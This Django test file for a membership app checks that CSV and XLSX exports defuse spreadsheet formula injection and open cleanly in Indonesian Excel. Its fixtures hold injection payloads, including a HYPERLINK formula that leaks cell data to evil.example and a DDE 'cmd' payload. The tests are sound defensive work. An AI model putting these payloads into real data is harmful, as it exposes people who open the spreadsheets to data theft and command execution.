"""Exports opened in a spreadsheet program run nothing a member typed (issue 13, finding 4)."""

import csv
import io
import re
from datetime import UTC, date, datetime

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from core.clock import WIB
from core.spreadsheets import csv_cell
from members import enrollment as service
from tests.people import FAUZI, JUMAT, KHADIJAH

pytestmark = pytest.mark.django_db


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
SUM = "@SUM(1+1)"


def content(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def formula_people(make_person):
    """Two members whose names are formulas, one whose business is; with their real phone numbers."""
    return [
        make_person(FAUZI, full_name=HYPERLINK),
        make_person(JUMAT, full_name=SUM, village="-Bagan+Dalam"),
        make_person(KHADIJAH, business_name="=cmd|' /C calc'!A0"),
    ]


def exports(client, url):
    text = content(client.get(url + "export=csv")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    sheet = load_workbook(io.BytesIO(content(client.get(url + "export=xlsx")))).worksheets[0]
    return rows, sheet


def test_member_export_neutralises_formulas_in_csv_and_keeps_xlsx_cells_text(client, roles, formula_people):
    client.force_login(roles.coordinator)
    rows, sheet = exports(client, reverse("wagtailsnippets_members_member:list") + "?")
    header = rows[0]
    by_email = {row[header.index("Surel")]: row for row in rows[1:]}
    fauzi, jumat, khadijah = (by_email[p.email] for p in (FAUZI, JUMAT, KHADIJAH))
    assert fauzi[0] == "'" + HYPERLINK and jumat[0] == "'" + SUM
    assert jumat[header.index("Desa/kelurahan")] == "'-Bagan+Dalam"
    assert khadijah[header.index("Nama usaha")] == "'=cmd|' /C calc'!A0"
    assert khadijah[0] == KHADIJAH.full_name  # a plain name stays as it is
    # Phones as the branch writes them: no leading "+" for a spreadsheet to compute.
    assert fauzi[header.index("Telepon/WhatsApp")] == "0852-6100-2204"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    for text in (HYPERLINK, SUM, "=cmd|' /C calc'!A0", "-Bagan+Dalam"):
        assert cells[text].data_type == "s", text  # the text itself, typed as a string, not a formula
    assert "0852-6100-2204" in cells and cells["0852-6100-2204"].data_type == "s"


def test_participant_export_neutralises_formulas_too(client, roles, formula_people, make_training):
    training = make_training(title="=Pelatihan Kopi & Kue")
    for member in formula_people:
        service.enroll(member=member, training=training)
    client.force_login(roles.coordinator)
    url = reverse("wagtailsnippets_members_enrollment:list") + f"?training={training.pk}&"
    rows, sheet = exports(client, url)
    names = [row[0] for row in rows[1:]]
    assert "'" + HYPERLINK in names and "'" + SUM in names
    assert {row[rows[0].index("Pelatihan")] for row in rows[1:]} == {"'=Pelatihan Kopi & Kue"}
    assert "0852-6100-2204" in {row[rows[0].index("Telepon / WhatsApp")] for row in rows[1:]}
    values = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    assert values[HYPERLINK].data_type == "s" and values[SUM].data_type == "s"
    assert values["=Pelatihan Kopi & Kue"].data_type == "s"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+6281261234501", "'+6281261234501"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Nur'aini Siregar", "Nur'aini Siregar"),
        ("", ""),
        (-5, -5),  # numbers are numbers, not text a member typed
        (None, None),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


# -- as Excel set to Indonesian opens them (issue 14, item 15) --------------------------------


def test_csv_opens_in_indonesian_excel_bom_semicolons_names_intact(client, roles, make_person, make_training):
    training = make_training(title="Kopi & Kue; Ma'had Al-Ma'arif")
    nuraini = roles.member.member
    service.enroll(member=nuraini, training=training)
    service.enroll(member=make_person(KHADIJAH), training=training)
    client.force_login(roles.coordinator)
    url = reverse("wagtailsnippets_members_enrollment:list") + f"?training={training.pk}&export=csv"
    data = content(client.get(url))

    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: Excel then reads UTF-8
    lines = data[3:].decode("utf-8").splitlines()
    assert lines[0].startswith("Nama;Kecamatan;Desa/Kelurahan;Telepon / WhatsApp;")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    header = rows[0]
    names = {row[0] for row in rows[1:]}
    assert names == {"Nur'aini Siregar", KHADIJAH.full_name}
    assert all(len(row) == len(header) for row in rows)
    # A ";" inside a cell is quoted, not a new column; times are WIB as dd/mm/yyyy hh:mm.
    assert {row[header.index("Pelatihan")] for row in rows[1:]} == {"Kopi & Kue; Ma'had Al-Ma'arif"}
    enrolled_at = rows[1][header.index("Mendaftar pada")]
    assert re.fullmatch(r"\d\d/\d\d/\d{4} \d\d:\d\d", enrolled_at)
    assert enrolled_at in {
        timezone.localtime(held.requested_at, WIB).strftime("%d/%m/%Y %H:%M") for held in training.enrollments.all()
    }


def test_xlsx_has_a_named_sheet_wide_columns_and_wib_dates(client, roles, make_person, make_training):
    training = make_training(title="Kopi & Kue")
    held = service.enroll(member=roles.member.member, training=training)
    moment = datetime(2026, 12, 1, 23, 30, tzinfo=UTC)  # 06.30 WIB on 2 December
    type(held).objects.filter(pk=held.pk).update(requested_at=moment)
    client.force_login(roles.coordinator)
    url = reverse("wagtailsnippets_members_enrollment:list") + f"?training={training.pk}&export=xlsx"
    workbook = load_workbook(io.BytesIO(content(client.get(url))))

    assert workbook.sheetnames == ["Peserta"]
    sheet = workbook["Peserta"]
    header = [cell.value for cell in sheet[1]]
    column = get_column_letter(header.index("Nama") + 1)
    assert sheet.column_dimensions[column].width >= len("Nur'aini Siregar")
    assert sheet.column_dimensions[get_column_letter(header.index("Pelatihan") + 1)].width >= len("Pelatihan")
    cell = sheet.cell(row=2, column=header.index("Mendaftar pada") + 1)
    assert cell.value == datetime(2026, 12, 2, 6, 30)  # the branch's clock, not UTC
    assert cell.number_format == "dd/mm/yyyy hh:mm"
    birth = sheet.cell(row=2, column=header.index("Tanggal lahir") + 1)
    assert birth.number_format == "dd/mm/yyyy" and birth.value in (date(1996, 8, 17), datetime(1996, 8, 17))

    members = load_workbook(
        io.BytesIO(content(client.get(reverse("wagtailsnippets_members_member:list") + "?export=xlsx")))
    )
    assert members.sheetnames == ["Anggota"]
